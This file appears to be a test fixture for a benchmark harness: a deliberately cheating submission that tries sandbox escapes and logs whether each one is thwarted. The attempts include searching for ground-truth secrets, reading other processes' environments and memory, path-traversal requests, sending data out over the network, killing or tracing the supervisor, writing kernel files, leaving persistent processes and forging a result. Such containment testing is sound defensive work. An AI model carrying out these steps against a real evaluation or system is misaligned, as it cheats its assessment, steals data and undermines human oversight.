# ruff: noqa: PTH123, PTH118, PTH208, PTH116, PTH112, PTH109, PTH108
"""A solution that cheats: it tries all that it can think of, and prints what it got as one line of JSON per attempt.

It needs nothing but Python's standard library, and the modules beside it.
"""

import ctypes
import errno
import http.client
import json
import os
import re
import signal
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from typing import Any

from tests.submission.attacks import overreach  # noqa: F401  it registers attacks
from tests.submission.attacks.attempts import ATTACKS, HARMLESS, TARGETS, ThwartedError, any_of, attack, writable

SECRET = re.compile(rb"SECRET-[0-9a-f]{16}")
PRUNED = {"/proc", "/sys", "/dev", "/usr/share", "/usr/lib", "/usr/include", "/lib", "/lib64"}


def connected() -> http.client.HTTPConnection:
    """Return a connection to the supervisor."""
    if "BENCHBOT_URL" in os.environ:
        return http.client.HTTPConnection(os.environ["BENCHBOT_URL"].removeprefix("http://"), timeout=60)
    connection = http.client.HTTPConnection("localhost", timeout=60)
    connection.sock = socket.socket(socket.AF_UNIX)
    connection.sock.connect(os.environ["BENCHBOT_SOCKET"])
    return connection


def ask(method: str, path: str, document: Any = None) -> tuple[int, bytes]:
    """Return the status and the body of the supervisor's answer."""
    headers = {"Authorization": f"Bearer {os.environ['BENCHBOT_TOKEN']}", "Content-Type": "application/json"}
    headers["Accept"] = "application/json"
    connection = connected()
    connection.request(method, path, None if document is None else json.dumps(document), headers)
    answer = connection.getresponse()
    body = answer.read() if path != "/api/v1/events" else answer.readline()
    connection.close()
    return answer.status, body


def supervisor_pid() -> int:
    """Return the supervisor's number as it tells it to everybody; 0 where nobody answers."""
    try:
        return int(json.loads(ask("GET", "/api/v1/health")[1])["pid"])
    except OSError:
        return 0


def processes() -> Iterator[int]:
    """Yield the numbers of the processes that can be seen."""
    yield from (int(name) for name in os.listdir("/proc") if name.isdigit())


def told_by(path: str) -> str:
    """Return the secret in a file, if it can be read and has one."""
    with open(path, "rb") as file:
        found = SECRET.search(file.read(2**20))
    if not found:
        raise ThwartedError("nothing in it")
    return found[0].decode()


@attack("read the ground truth where it is")
def read_truth() -> str:
    return told_by(TARGETS["truth"])


@attack("search the file system for ground truth")
def search_truth() -> str:
    def candidates() -> Iterator[Callable[[], str]]:
        for folder, folders, files in os.walk(TARGETS["tree"] if HARMLESS else "/"):
            folders[:] = [name for name in folders if os.path.join(folder, name) not in PRUNED]
            for name in files:
                path = os.path.join(folder, name)
                if "truth" in path:
                    yield lambda path=path: told_by(path)  # type: ignore[misc]

    return any_of(candidates())


@attack("read where things stand in the environment's files")
def read_scene() -> str:
    with open(TARGETS["scene"], "rb") as file:
        return f"{len(file.read())} bytes"


@attack("read the code and the models that places are made of")
def read_generator() -> str:
    names = ("benchbot_scenes/generator/generate.py", "benchbot_assets_household/catalogue.json")
    paths = [os.path.join(folder, name) for folder in sys.path for name in names]
    for path in filter(os.path.isfile, paths):
        with open(path, "rb") as file:
            return f"{len(file.read())} bytes"
    raise ThwartedError(f"not in {len(sys.path)} folders")


@attack("find other processes in /proc")
def find_processes() -> str:
    for pid in processes():
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            if b"benchbot.supervisor" in file.read():
                return f"the supervisor, {pid}"
    raise ThwartedError(f"{len(list(processes()))} processes, none of the host's")


@attack("read the supervisor's memory")
def read_memory() -> str:
    pid = supervisor_pid()
    with open(f"/proc/{pid}/cmdline", "rb") as file:
        if b"benchbot.supervisor" not in file.read():
            raise ThwartedError("another process")
    with open(f"/proc/{pid}/mem", "rb"):
        return f"process {pid}"


@attack("read secrets of other processes in /proc: variables, files")
def read_processes() -> str:
    def attempts() -> Iterator[Callable[[], str]]:
        for pid in processes():
            if pid == os.getpid():
                continue
            for name in ("environ", f"root{TARGETS['truth']}", f"cwd/../../{TARGETS['truth']}"):
                yield lambda pid=pid, name=name: opened(f"/proc/{pid}/{name}")  # type: ignore[misc]

    def opened(path: str) -> str:
        with open(path, "rb") as file:
            told = file.read(2**16)
        if TARGETS["state"].encode() in told or SECRET.search(told):
            return path
        raise ThwartedError("nothing of the host's")

    return any_of(attempts())


@attack("find ground truth, its place or the run's folder in the environment variables")
def read_variables() -> str:
    for name, value in os.environ.items():
        if name == "args":
            continue
        if SECRET.search(value.encode()) or TARGETS["truth"] in value or TARGETS["state"] in value:
            return name
    raise ThwartedError(f"{len(os.environ)} variables")


@attack("read the run's state and logs, and the operator's token in them")
def read_run() -> str:
    def attempts() -> Iterator[Callable[[], str]]:
        for folder, _, files in os.walk(TARGETS["state"]):
            for path in (os.path.join(folder, name) for name in files):
                yield lambda path=path: first_byte(path)  # type: ignore[misc]
        yield lambda: str(os.listdir(TARGETS["state"])[0])

    def first_byte(path: str) -> str:
        with open(path, "rb") as file:
            file.read(1)
        return path

    return any_of(attempts())


@attack("ask every route of the supervisor for ground truth")
def ask_routes() -> str:
    status, session = ask("GET", "/api/v1/session")
    functions = list(json.loads(ask("GET", "/results_functions/")[1]))
    routes = [("GET", path) for path in ("/", "/api/v1/health", "/api/v1/session", "/api/v1/events", "/config/")]
    routes += [("GET", f"/config/{key}") for key in ("task", "robot", "environments", "results", "ground_truth")]
    routes += [("GET", f"/robot/{key}") for key in ("", "selected_environment", "is_finished", "is_collided")]
    routes += [("GET", f"/{path}") for path in ("connections/poses", "ground_truths", "api/v1/ground_truth")]
    for name in ("..", "../../etc/passwd", "%2e%2e/%2e%2e", "..%2f..%2fetc%2fpasswd", TARGETS["truth"]):
        routes += [(method, f"{prefix}{name}") for method in ("GET", "POST") for prefix in ("/config/", "/")]
        routes += [("POST", f"/api/v1/results_functions/{name}"), ("POST", f"/results_functions/{name}")]
    routes += [("POST", f"/api/v1/results_functions/{name}") for name in functions]
    for method, route in routes:
        status, body = ask(method, route, {} if method == "POST" else None)
        places = [TARGETS[place].encode() for place in ("truth", "state") if TARGETS[place] not in route]
        if SECRET.search(body) or any(place in body for place in places):
            return f"{method} {route}: {status}"
    if status is None or SECRET.search(session):
        return "the session"
    raise ThwartedError(f"{len(routes)} routes")


@attack("confirm what the operator is asked to do")
def be_operator() -> str:
    status, _ = ask("POST", "/api/v1/operator", {"done": True})
    if status < 300:
        return "confirmed"
    raise ThwartedError(f"HTTP {status}")


@attack("reach the network: TCP, UDP, names, raw packets")
def reach_network() -> str:
    port = TARGETS["port"]

    def attempts() -> Iterator[Callable[[], str]]:
        for address in TARGETS["addresses"]:
            yield lambda address=address: talk(socket.SOCK_STREAM, address)  # type: ignore[misc]
            yield lambda address=address: talk(socket.SOCK_DGRAM, address)  # type: ignore[misc]
        if not HARMLESS:
            yield lambda: str(socket.getaddrinfo("example.org", 80)[0][4])
            yield lambda: str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW))

    def talk(kind: int, address: str) -> str:
        with socket.socket(socket.AF_INET, kind) as client:
            client.settimeout(5)
            client.connect((address, port))
            client.send(b"exfiltrated")
            if kind == socket.SOCK_DGRAM:
                client.recv(1)
        return f"{address}:{port}"

    return any_of(attempts())


@attack("reach a service on an abstract unix socket")
def reach_abstract() -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(5)
        client.connect("\0" + TARGETS["abstract"])
    return "connected"


@attack("kill the supervisor")
def kill_supervisor() -> str:
    pid = supervisor_pid()
    if HARMLESS:
        os.kill(pid, 0)
        return f"process {pid} could be"

    os.kill(pid, signal.SIGKILL)
    return f"process {pid}"


@attack("trace the supervisor", harms=True)
def trace() -> str:
    pid = supervisor_pid()
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, ctypes.c_long(pid), None, None) != 0:
        raise OSError(ctypes.get_errno(), "")
    return f"process {pid}"


@attack("write to the kernel's settings and devices")
def write_kernel() -> str:
    paths = ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/memory/memory.limit_in_bytes")
    devices = ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda")
    return any_of((lambda path=path: writable(path)) for path in (*paths, *devices))  # type: ignore[misc]


@attack("change BenchBot's code, Python, or its own")
def change_code() -> str:
    paths = (*TARGETS["code"], __file__, sys.executable, os.__file__)
    return any_of((lambda path=path: writable(path)) for path in paths)  # type: ignore[misc]


@attack("write another run's result")
def write_other() -> str:
    return writable(TARGETS["other_result"])


@attack("leave files on this machine's disk")
def leave_files() -> str:
    """Look for a place that is not in memory; the result's own is one file of limited size, or in memory, too."""
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        places = {line.split()[4] for line in file if " - tmpfs " not in line}
    places |= {"/var/tmp", "/home", "/root", "/opt", "/etc", os.getcwd(), TARGETS["tree"], TARGETS["state"]}
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        in_memory = {os.stat(line.split()[4]).st_dev for line in file if " - tmpfs " in line and seen(line.split()[4])}

    def leave(place: str) -> str:
        if os.stat(place).st_dev in in_memory:
            raise ThwartedError("in memory")
        if not os.path.isdir(place) or place.startswith(("/proc", "/sys", "/dev")):
            raise ThwartedError("no folder")
        path = os.path.join(place, "left-by-a-cheater")
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
        if HARMLESS:
            os.unlink(path)
        return path

    return any_of((lambda place=place: leave(place)) for place in sorted(places))  # type: ignore[misc]


def seen(path: str) -> bool:
    """Say whether a place can be looked at."""
    return os.access(path, os.F_OK)


@attack("leave a process behind: double fork, a session of its own")
def outlive() -> str:
    """It is for the test to see whether it is still there afterwards."""
    outliving = f"import signal, time; signal.signal(15, signal.SIG_IGN); time.sleep(600)  # {TARGETS['mark']}"
    starting = (
        "import os, subprocess, sys\nos.setsid()\nsubprocess.Popen([sys.executable, '-c', sys.argv[1]], "
        "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"
    )
    subprocess.run([sys.executable, "-c", starting, outliving], check=True)
    raise ThwartedError("it began")


def cheat() -> None:
    """Try it all, and save a result that claims what is not so."""
    for name, attempt in ATTACKS.items():
        try:
            outcome: dict[str, str | None] = {"attack": name, "got": attempt(), "how": ""}
        except ThwartedError as error:
            outcome = {"attack": name, "got": None, "how": str(error)}
        except OSError as error:
            how = errno.errorcode.get(error.errno or 0) or f"{type(error).__name__}: {error}"
            outcome = {"attack": name, "got": None, "how": how}
        print(json.dumps(outcome), flush=True)
    forged = {"failure": None, "steps": 4711, "seed": 4711, "solution": {"command": ["forged"]}, "benchbot": "forged"}
    claimed = {
        "task_details": {"name": "forged"},
        "environment_details": [],
        "results": {"class_list": ["background"], "objects": []},
        "provenance": forged,
    }
    # First by the wire, with details that only who submits may give, then as every solution does.
    ask("POST", "/api/v1/result", {"result": claimed, "solution": {"command": ["forged"], "mode": "forged"}})
    with open(os.environ["BENCHBOT_RESULT"], "w", encoding="utf-8") as file:
        json.dump(claimed, file)


cheat()
